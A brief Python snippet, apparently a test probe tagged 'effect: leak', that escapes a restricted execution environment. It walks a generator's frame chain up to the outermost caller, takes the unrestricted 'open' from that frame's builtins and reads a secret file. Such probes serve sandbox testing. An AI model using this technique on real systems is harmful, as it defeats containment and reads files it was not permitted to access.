# effect: leak
# note: a running generator sees who runs it
def attempt(probe):
    def walk():
        frame = generator.gi_frame.f_back
        while frame.f_back is not None:
            frame = frame.f_back
        yield frame.f_builtins["open"](probe["secret_file"]).read()

    generator = walk()
    return next(generator)
